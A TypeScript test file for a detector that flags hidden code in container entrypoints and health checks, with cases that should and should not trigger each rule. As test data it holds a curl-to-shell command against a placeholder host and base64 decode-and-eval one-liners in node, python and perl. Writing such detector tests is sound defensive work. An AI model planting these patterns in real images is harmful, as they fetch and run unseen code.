import { describe, expect, it } from 'vitest';
import { signature } from '../../../src/detectors/signature/index.js';
import { NO_INVENTORY, type ImageConfig } from '../../../src/model/index.js';
import { defaultSignatures } from '../../../src/signatures/index.js';
import { memoryTree } from '../../support/memory-tree.js';

function imageWith(
  entrypoint: readonly string[],
  command: readonly string[] = [],
  healthCheck: readonly string[] = [],
): ImageConfig {
  return {
    entrypoint,
    command,
    healthCheck,
    workingDirectory: null,
    architecture: null,
    environment: [],
    environmentHooks: [],
  };
}

async function found(image: ImageConfig) {
  const inventory = { ...NO_INVENTORY, image };
  const { findings } = await signature.detect({
    tree: memoryTree({}),
    inventory,
    signatures: defaultSignatures(),
    found: [],
  });
  return findings.map(({ rule, evidence }) => [rule, evidence[0]?.path] as const);
}

const DECODES = 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())';
const FETCHES = 'curl -s https://example.invalid/x | sh';

describe('a start line that hides code', () => {
  it.each<[rule: string, entrypoint: readonly string[], command?: readonly string[]]>([
    ['code/decode-and-execute', ['node', '-e', DECODES]],
    ['code/decode-and-execute', ['/var/lang/bin/node', '--eval', DECODES]],
    ['code/decode-and-execute', ['node', '--no-warnings', `--eval=${DECODES}`]],
    ['code/decode-and-execute', ['node'], ['-p', DECODES]],
    ['code/decode-and-execute', ['/lambda-entrypoint.sh'], ['node', '-e', DECODES]],
    ['code/shell-unseen-code', ['/bin/sh', '-c', FETCHES]],
    ['code/shell-unseen-code', ['bash', '-lc', `set -e; ${FETCHES}`]],
    ['code/shell-unseen-code', ['tini', '--', 'sh', '-c', FETCHES]],
    ['code/shell-unseen-code', ['/bin/sh', '-c', `node -e 'eval(atob("x"))'`]],
    [
      'python/decodes-and-executes',
      ['python3', '-c', "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"],
    ],
    ['code/perl-unseen-code', ['perl', '-MMIME::Base64', '-we', "eval(decode_base64('cHJpbnQgMQ=='))"]],
    ['code/imports-data', ['node', '--import=data:text/javascript,eval(process.env.X)', 'index.js']],
    ['code/imports-data', ['node', '--import', 'data:text/javascript;base64,ZigpCg==', 'index.js']],
  ])('%s: %j %j', async (rule, entrypoint, command) => {
    expect(await found(imageWith(entrypoint, command))).toContainEqual([rule, 'ENTRYPOINT']);
  });
});

it.each<[entrypoint: readonly string[], command?: readonly string[]]>([
  [[]],
  [['/lambda-entrypoint.sh'], ['app.handler']],
  [['/usr/bin/npx', 'aws-lambda-ric'], ['index.handler']],
  [['/bin/sh', '-c', 'exec node index.js']],
  [['docker-entrypoint.sh'], ['node', 'server.js']],
  [['python3', '-c', 'import app; app.main()']],
  [['node', '-e', 'require("./server").start(8080)']],
  [['/bin/sh', '-c', 'curl -s http://localhost:8080/health || exit 1; node server.js']],
])('an ordinary start line is quiet: %j %j', async (entrypoint, command) => {
  expect(await found(imageWith(entrypoint, command))).toEqual([]);
});

it('a health check is a start line of its own', async () => {
  const evil = ['/bin/sh', '-c', FETCHES];
  expect(await found(imageWith([], [], evil))).toEqual([['code/shell-unseen-code', 'HEALTHCHECK']]);
  expect(await found(imageWith(evil, [], evil))).toEqual([
    ['code/shell-unseen-code', 'ENTRYPOINT'],
    ['code/shell-unseen-code', 'HEALTHCHECK'],
  ]);
  expect(await found(imageWith([], [], ['/bin/sh', '-c', 'curl -f http://localhost/ || exit 1']))).toEqual(
    [],
  );
});
